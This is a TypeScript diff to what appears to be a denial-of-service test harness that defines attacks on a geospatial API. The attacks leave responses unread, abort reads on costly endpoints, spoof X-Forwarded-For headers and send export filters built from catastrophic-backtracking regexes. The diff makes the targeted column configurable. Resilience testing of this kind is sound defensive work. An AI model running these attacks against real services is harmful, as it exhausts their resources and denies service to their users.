@@ -9,7 +9,7 @@ const unreadLists: Attack = {
   name: "unread-lists",
   clients: 1,
   run: async (at) => {
-    const path = `${at.victim.layer}objects/?fields=*&returnGeom=1&sort=text`;
+    const path = `${at.victim.layer}objects/?fields=*&returnGeom=1&sort=${at.victim.column}`;
     const head = `GET ${path} HTTP/1.1\r\nHost: a\r\nX-Forwarded-For: ${at.address}\r\n\r\n`;
     await again(at, async () => {
       for (let index = 0; index < unread; index++) {
@@ -27,9 +27,9 @@ const abortedReads: Attack = {
   clients: 8,
   run: (at) =>
     again(at, async () => {
-      const { layer, map } = at.victim;
+      const { layer, map, column } = at.victim;
       const paths = [
-        `${layer}objects/?fields=*&returnGeom=1&sort=text`,
+        `${layer}objects/?fields=*&returnGeom=1&sort=${column}`,
         `${layer}count/?precise=true`,
         `${layer}bbox/`,
         `${map}search/?phrase=place%20${at.random.whole(0, 9)}`,
@@ -48,7 +48,8 @@ const expensiveFilters: Attack = {
   run: (at) =>
     again(at, async () => {
       const { random, victim } = at;
-      const one = () => `text matches '(.*)*${random.whole(0, 9)}(.*)*${random.whole(0, 9)}(.*)*'`;
+      const one = () =>
+        `${victim.column} matches '(.*)*${random.whole(0, 9)}(.*)*${random.whole(0, 9)}(.*)*'`;
       const filter = Array.from({ length: random.whole(1, 20) }, one).join(" or ");
       const path = `${victim.layer}export/?format=csv&filter=${encodeURIComponent(filter)}`;
       return (await send(at, path)).status === 200;
